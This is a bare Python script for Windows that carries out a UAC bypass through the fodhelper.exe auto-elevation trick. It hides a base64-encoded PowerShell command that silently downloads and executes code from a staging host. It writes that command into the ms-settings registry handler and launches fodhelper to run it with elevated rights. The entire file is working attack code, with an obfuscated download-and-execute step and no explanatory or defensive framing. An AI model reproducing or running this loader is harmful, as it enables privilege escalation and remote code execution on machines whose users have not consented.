import base64
import subprocess
import winreg

held = b"cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgSUVYKChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwczovL3N0YWdlLnBheWxvYWQuaW52YWxpZC9hJykp"
key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\shell\open\command")
winreg.SetValueEx(key, None, 0, winreg.REG_SZ, base64.b64decode(held).decode())
winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")
subprocess.Popen(["fodhelper.exe"])
